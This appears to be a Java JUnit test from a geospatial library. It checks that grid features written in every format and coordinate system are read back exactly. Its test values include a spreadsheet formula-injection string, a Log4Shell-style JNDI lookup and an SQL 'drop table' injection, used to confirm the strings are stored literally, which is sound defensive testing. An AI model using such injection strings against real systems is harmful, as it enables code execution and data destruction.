package org.whistlegrid.exchange.format;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.locationtech.jts.geom.Coordinate;
import org.locationtech.jts.geom.Geometry;
import org.locationtech.jts.geom.MultiPolygon;
import org.locationtech.jts.io.WKTReader;
import org.whistlegrid.geo.AxisOrder;
import org.whistlegrid.geo.CoordinateSystems;

/** What is written in any format and coordinate system is read again as it was, to the millimetre, without a hint. */
class WritingAndReadingAgainTest {

    private static final double MILLIMETRE_IN_DEGREES = 8e-9;
    private static final CoordinateSystems SYSTEMS = new CoordinateSystems();

    private static final List<FeatureWriters.Column> COLUMNS =
            List.of(new FeatureWriters.Column("code", 17), new FeatureWriters.Column("name", 120));

    private static final List<List<String>> VALUES = List.of(
            List.of("990101001001001", "海棠社区第一网格"),
            List.of("990101001001002", "=cmd|' /C calc'!A1"),
            Arrays.asList("990101001001003", null),
            List.of(
                    "990101001001004",
                    "${jndi:ldap://example.invalid/a} \"'; drop table grid.area; --, exec(java.lang.Runtime)"));

    @TempDir
    Path folder;

    static Stream<Arguments> formatsAndSystems() {
        return Stream.of(Format.values())
                .flatMap(format -> Stream.of("EPSG:4490", "EPSG:4549", "EPSG:4528", "EPSG:4326", "EPSG:3857")
                        .map(crs -> Arguments.of(format, crs)));
    }

    private static MultiPolygon ground() throws Exception {
        return (MultiPolygon)
                new WKTReader()
                        .read(
                                "MULTIPOLYGON(((120.1 31.5, 120.2 31.5, 120.2 31.6, 120.1 31.6, 120.1 31.5),"
                                        + "(120.12 31.52, 120.12 31.54, 120.14 31.54, 120.12 31.52)),((120.3 31.5, 120.31 31.5, 120.3 31.51, 120.3 31.5)))");
    }

    @ParameterizedTest
    @MethodSource("formatsAndSystems")
    void nothingIsLost(Format format, String crs) throws Exception {
        Path file = folder.resolve("file");
        MultiPolygon written = (MultiPolygon) SYSTEMS.outOf4490(crs).apply(ground());
        try (FeatureWriter writer =
                FeatureWriters.begin(format, file, "grid", COLUMNS, crs, Instant.parse("2026-11-24T00:00:00Z"))) {
            for (List<String> values : VALUES) {
                writer.write(values, written);
            }
        }
        try (SourceFile source = SourceFiles.open(file, Bounds.USUAL)) {
            assertThat(source.format()).isEqualTo(format);
            Layer layer = source.layers().get(0);
            assertThat(layer.fields()).contains("code", "name");
            assertThat(layer.crs().crs()).isEqualTo(crs);
            int code = layer.fields().indexOf("code");
            int name = layer.fields().indexOf("name");
            List<Feature> features = all(source);
            assertThat(features).hasSize(VALUES.size());
            for (int i = 0; i < features.size(); i++) {
                assertThat(features.get(i).values().get(code))
                        .isEqualTo(VALUES.get(i).get(0));
                assertThat(features.get(i).values().get(name))
                        .isEqualTo(VALUES.get(i).get(1));
                assertThat(features.get(i).shape().flaws()).isEmpty();
                Geometry back = SYSTEMS.into4490(crs, AxisOrder.EAST_NORTH)
                        .apply(features.get(i).shape().ground());
                assertThat(farthest(back, ground())).isLessThan(MILLIMETRE_IN_DEGREES);
            }
        }
    }

    private static List<Feature> all(SourceFile source) throws IOException {
        List<Feature> all = new ArrayList<>();
        try (Features features = source.open(0, StandardCharsets.UTF_8)) {
            for (Feature feature = features.next(); feature != null; feature = features.next()) {
                all.add(feature);
            }
        }
        return all;
    }

    /** Degrees; infinite where the grounds have other parts, rings or points. */
    private static double farthest(Geometry one, Geometry other) {
        Coordinate[] here = one.norm().getCoordinates();
        Coordinate[] there = other.norm().getCoordinates();
        double farthest = here.length == there.length ? 0 : Double.POSITIVE_INFINITY;
        for (int i = 0; i < Math.min(here.length, there.length); i++) {
            farthest = Math.max(farthest, here[i].distance(there[i]));
        }
        return farthest;
    }
}
